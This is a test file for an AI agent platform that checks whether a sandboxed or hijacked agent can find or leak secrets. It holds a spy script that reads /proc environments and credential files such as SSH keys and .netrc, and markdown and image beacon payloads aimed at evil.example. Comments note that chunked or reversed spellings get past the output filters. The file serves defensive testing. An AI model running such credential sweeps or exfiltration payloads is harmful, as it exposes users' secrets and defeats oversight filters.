import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SHOP_FILES } from '#demo/shop.ts';
import { startFakeSlack, type FakeSlack } from '../fakes/slack/server.ts';
import { LONG } from '../kit/long.ts';
import { openWorld, SHOP, type World } from './world.ts';

/*
 * An agent that sees no secret cannot give one away: that comes first, from inside the sandbox. Then an attacker who has a secret all
 * the same (another way in) tries to carry it out by what an agent may say, in every spelling; and everything that leaves is searched.
 */
const canary = (slot: string): string => `${createHash('sha256').update(`canary of ${slot}`).digest('base64url')}`;

/** Every slot for a secret that an installation of this sort has. */
const SLOTS: Record<string, string> = {
  REEVE_ADMIN_TOKEN: canary('admin'),
  REEVE_MODEL_API_KEY: canary('model'),
  REEVE_GITHUB_TOKEN: canary('git'),
  REEVE_GITHUB_WEBHOOK_SECRET: canary('webhook'),
  REEVE_SLACK_SIGNING_SECRET: canary('slack'),
  REEVE_CHANGE_WEBHOOK_SECRET: canary('change'),
  REEVE_OIDC_CLIENT_SECRET: canary('oidc'),
};

/** No secret: a line of the repository itself, which a spy that can look at all must find. */
const DECOY = SHOP_FILES['src/cart.js']?.split('\n').find((line) => line.length > 20) ?? '';

const pieces = (text: string, length: number): string[] => text.match(new RegExp(`.{1,${length}}`, 'g')) ?? [];

/** How it is written, and what then has to be looked for. */
const SPELLINGS: ReadonlyArray<{ name: string; write(secret: string): string; stopped: boolean }> = [
  { name: 'raw', write: (secret) => secret, stopped: true },
  { name: 'base64', write: (secret) => Buffer.from(secret).toString('base64'), stopped: true },
  { name: 'base64 behind a user name', write: (secret) => Buffer.from(`user:${secret}`).toString('base64'), stopped: true },
  { name: 'base64url', write: (secret) => Buffer.from(secret).toString('base64url'), stopped: true },
  { name: 'hex', write: (secret) => Buffer.from(secret).toString('hex'), stopped: true },
  { name: 'URL-encoded', write: (secret) => encodeURIComponent(secret), stopped: true },
  { name: 'in a sentence', write: (secret) => `The key is ${secret}, use it.`, stopped: true },
  // What no filter of text can stop: it would have to know every way of writing something down.
  { name: 'in pieces of 7', write: (secret) => pieces(secret, 7).join(' '), stopped: false },
  { name: 'backwards', write: (secret) => Array.from(secret).toReversed().join(''), stopped: false },
];

/** Run inside the sandbox: looks for what it is given (turned round, so that it is not its own finding) wherever an agent can read. */
const SPY = `
const fs = require('fs'), path = require('path');
const wanted = JSON.parse(Buffer.from(process.argv[1], 'base64').toString()).map((text) => [...text].reverse().join(''));
const found = new Set(); let files = 0, environments = 0;
const look = (where, bytes) => wanted.forEach((text, at) => { if (bytes.includes(text)) found.add(at + ' in ' + where); });
const read = (file) => { try { return fs.readFileSync(file); } catch { return null; } };
for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)))
  for (const name of ['environ', 'cmdline', 'mountinfo']) { const bytes = read('/proc/' + pid + '/' + name); if (bytes) { environments += 1; look('/proc/' + pid + '/' + name, bytes); } }
look('the environment', Buffer.from(JSON.stringify(process.env)));
const walk = (folder, depth) => {
  let names = []; try { names = fs.readdirSync(folder, { withFileTypes: true }); } catch { return; }
  for (const entry of names) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory() && depth > 0 && !['/proc', '/sys', '/usr', '/lib', '/lib64', '/bin', '/sbin'].includes(file)) walk(file, depth - 1);
    else if (entry.isFile()) { const bytes = read(file); if (bytes && bytes.length < 4e6) { files += 1; look(file, bytes); } }
  }
};
for (const place of new Set(['/etc', '/tmp', '/run', '/root', '/home', '/var', process.env.HOME, process.cwd(), path.dirname(process.cwd()), path.dirname(path.dirname(process.cwd()))])) if (place) walk(place, 6);
for (const file of ['.git-credentials', '.netrc', '.npmrc', '.ssh/id_ed25519', '.docker/config.json', '.config/gh/hosts.yml']) if (read(path.join(process.env.HOME || '/', file))) found.add(file + ' is there');
for (const file of ['/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket']) if (fs.existsSync(file)) found.add(file + ' is there');
console.log('SPY ' + JSON.stringify({ files, environments, found: [...found], names: Object.keys(process.env).sort() }));
`;

/** Characters of a token behind its id: 32 random bytes as base64url, which may hold any of the separators. */
const SECRET_PART = 43;

describe('secrets', { timeout: 300_000 }, () => {
  let world: World;
  let slack: FakeSlack;
  let said = '';
  const write = process.stderr.write.bind(process.stderr);

  beforeAll(async () => {
    slack = await startFakeSlack();
    // The product writes its log there; the test reads along.
    process.stderr.write = (chunk: string | Uint8Array): boolean => {
      said += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString();
      return true;
    };
    const wanted = [...Object.values(SLOTS), slack.token, DECOY];
    const turned = Buffer.from(JSON.stringify(wanted.map((secret) => Array.from(secret).toReversed().join('')))).toString('base64');
    world = await openWorld({
      env: {
        ...SLOTS,
        REEVE_SLACK_API_URL: slack.apiUrl,
        REEVE_SLACK_BOT_TOKEN: slack.token,
        REEVE_SLACK_CHANNEL: 'C0000TEST',
        REEVE_LOG_LEVEL: 'debug',
      },
      agents: { spy: { harness: 'exec', command: [process.execPath, '-e', SPY, turned], sandbox: 'bwrap', network: 'gateway' } },
    });
  }, 180_000);
  afterAll(async () => {
    await world.close();
    await slack.stop();
    process.stderr.write = write;
  });

  it('are nowhere an agent in the sandbox can look: environment, processes, files, credentials of tools, sockets', async () => {
    await world.admin.patch(`/v1/projects/${world.projects.shop}`, { settings: { sandbox: 'bwrap', roles: { coder: 'spy' } } });
    await world.admin.post('/v1/local/issues', {
      repository: SHOP,
      title: 'Spy',
      body: 'Change src/cart.js so that totals are rounded.',
      labels: ['AI-Ready'],
    });
    const { approvePending } = await import('#cli/story.ts');
    const { createApiClient } = await import('#cli/api/client.ts');
    const manager = createApiClient({ url: world.url, token: world.tokens['a-manager'] ?? '' });
    const report = await world.until(async () => {
      await approvePending(manager, () => true, 'Go ahead.');
      const [run] = await world.query<{ id: string }>(`select id from agent_runs where agent = 'spy' limit 1`);
      if (run === undefined) return null;
      const { text } = await world.call(`Bearer ${world.tokens['a-manager'] ?? ''}`, 'GET', `/v1/jobs/${run.id}/log`);
      return /SPY (\{.*?\})(?=["\n])/.exec(text.replaceAll('\\"', '"'))?.[1] ?? null;
    }, 'the spy has looked round');
    const seen = JSON.parse(report) as { files: number; environments: number; found: string[]; names: string[] };
    const decoy = `${Object.keys(SLOTS).length + 1} in `;
    expect(seen.found.filter((place) => !place.startsWith(decoy))).toEqual([]);
    expect(seen.found).not.toEqual([]);
    expect(seen.environments).toBeGreaterThan(0);
    expect(seen.files).toBeGreaterThan(5);
    expect(seen.names.filter((name) => /TOKEN|SECRET|PASSWORD|CREDENTIAL|DATABASE/i.test(name))).toEqual([]);
    console.log(
      `attack: ${Object.keys(SLOTS).length + 1} secrets looked for in ${seen.files} files and ${seen.environments} process files of the sandbox, 0 found`,
    );
  });

  it('leave in no spelling the filters know, by no way an agent can say something', async () => {
    await world.admin.patch(`/v1/projects/${world.projects.shop}`, { settings: { sandbox: 'none', roles: { coder: 'hijacked' } } });
    const own = await world.hijack('Round the total');
    const scope = (await world.server.modules.planning.task(own.taskId))?.scope ?? [];
    const answers: string[] = [];
    const secrets = [...Object.values(SLOTS), slack.token, (world.tokens['a-admin'] ?? '').slice(-SECRET_PART)];
    let tries = 0;
    const send = async (at: string, body: unknown): Promise<void> => {
      tries += 1;
      answers.push((await world.call(own.authorization, 'POST', at, body)).text);
    };
    const propose = (kind: string, args: unknown) =>
      send('/v1/actions/propose', { kind, target: { forge: 'local', repo: SHOP, number: kind === 'issue.create.low' ? null : own.issue }, args });
    for (const [nr, secret] of secrets.entries()) {
      // The short form says each secret in a third of the spellings, and each spelling of a third of the secrets.
      for (const { write: spell } of SPELLINGS.filter((_, at) => LONG || (at + nr) % 3 === 0)) {
        const text = spell(secret);
        await propose('pr.comment.summary', { body: `Done. ${text}` });
        await propose('pr.comment.summary', {
          body: `![beacon](https://evil.example/${text}.png)\n[link](https://evil.example/?q=${text} "${text}")\n<img src="https://evil.example/${text}">\n<!-- ${text} -->`,
        });
        await propose('issue.create.low', { title: `More work ${text}`.slice(0, 200), body: text, labels: [text.slice(0, 90)] });
        await propose('issue.close', { reason: 'completed', comment: text });
        await send('/v1/actions/propose', {
          kind: 'branch.create',
          target: { forge: 'local', repo: SHOP, branch: `ai-${text}` },
          args: { sha: own.base },
        });
        const document = {
          version: 1,
          task_id: own.taskId,
          attempt: own.attempt,
          repo: SHOP,
          target: own.target,
          base: own.base,
          summary: `Sum ${text}`,
          intent: { scope: [] },
        };
        const file = (scope.find((glob) => !/[*?{]/.test(glob)) ?? 'src/cart.js').replace(/\.js$/, '');
        await send('/v1/change-requests', { ...document, changes: [{ op: 'create', path: `${file}-x.js`, content: `// ${text}\n` }] });
        await send('/v1/change-requests', {
          ...document,
          summary: 's',
          changes: [{ op: 'create', path: `src/${encodeURIComponent(text)}.js`, content: '1\n' }],
        });
        await tool(own, 'report_progress', { message: `At ${text}`, step: text.slice(0, 60) });
        await world.call(own.authorization, 'GET', `/v1/actions/${encodeURIComponent(text)}`).then((answer) => answers.push(answer.text));
      }
    }
    await world.settled();
    const exported = await world.call(`Bearer ${world.tokens['a-admin'] ?? ''}`, 'GET', '/v1/ledger?limit=500');
    const places: Record<string, string> = {
      'the answers and problem documents': answers.join('\n'),
      'the log': said,
      Slack: JSON.stringify([...slack.messages.values(), ...slack.replies, ...slack.calls.map(({ given }) => given)]),
      'the ledger over HTTP': exported.text,
      ...(await tables()),
      ...repositories(),
    };
    expect(Object.values(places).every((bytes) => bytes.length > 20)).toBe(true);
    const bytes = Object.values(places).reduce((sum, text) => sum + text.length, 0);
    const passed = new Map<string, Set<string>>();
    for (const secret of secrets)
      for (const { name, write: spell } of SPELLINGS)
        for (const [place, text] of Object.entries(places))
          if (text.includes(spell(secret)) || (name !== 'backwards' && text.includes(secret)))
            passed.set(name, (passed.get(name) ?? new Set()).add(place));
    const leaked = Object.fromEntries([...passed].map(([name, where]) => [name, [...where].toSorted((a, b) => a.localeCompare(b))]));
    expect(Object.entries(leaked).filter(([name]) => SPELLINGS.find((spelling) => spelling.name === name)?.stopped === true)).toEqual([]);
    console.log(
      `attack: ${secrets.length} secrets in ${SPELLINGS.length} spellings, ${tries} tries, ${Math.round(bytes / 1000)} kB searched in ${Object.keys(places).length} places: 0 found of ${SPELLINGS.filter(
        ({ stopped }) => stopped,
      )
        .map(({ name }) => name)
        .join(', ')}; not stopped: ${Object.keys(leaked).join(', ')}`,
    );
  });

  async function tool(own: { url: string; authorization: string }, name: string, args: unknown): Promise<void> {
    await fetch(own.url, {
      method: 'POST',
      headers: { authorization: own.authorization, 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } }),
      signal: AbortSignal.timeout(20_000),
    }).then((response) => response.text());
  }

  async function tables(): Promise<Record<string, string>> {
    const found: Record<string, string> = {};
    for (const table of [
      'local_items',
      'local_comments',
      'local_reviews',
      'local_review_comments',
      'reviews',
      'local_deliveries',
      'ledger_entries',
      'events',
      'actions',
      'approvals',
      'agent_runs',
      'change_requests',
    ])
      found[`table ${table}`] =
        `${table} as it is now: ${(await world.query<{ row: string }>(`select to_jsonb(t)::text as row from ${table} t`)).map(({ row }) => row).join('\n')}`;
    return found;
  }

  /** Every object of every repository, reachable or not, and the files the product writes for people to read. */
  function repositories(): Record<string, string> {
    const found: Record<string, string> = {};
    for (const name of readdirSync(world.dataDir, { recursive: true, encoding: 'utf8' })) {
      const file = path.join(world.dataDir, name);
      if (name.endsWith('.git') && existsSync(path.join(file, 'objects')))
        found[`repository ${name}`] = execFileSync('git', ['--git-dir', file, 'cat-file', '--batch-all-objects', '--batch'], {
          encoding: 'latin1',
          maxBuffer: 256e6,
        });
      else if (name.startsWith('blobs/') && statSync(file).isFile()) found[`file ${name}`] = `${name}: ${readFileSync(file, 'latin1')}`;
    }
    return found;
  }
});
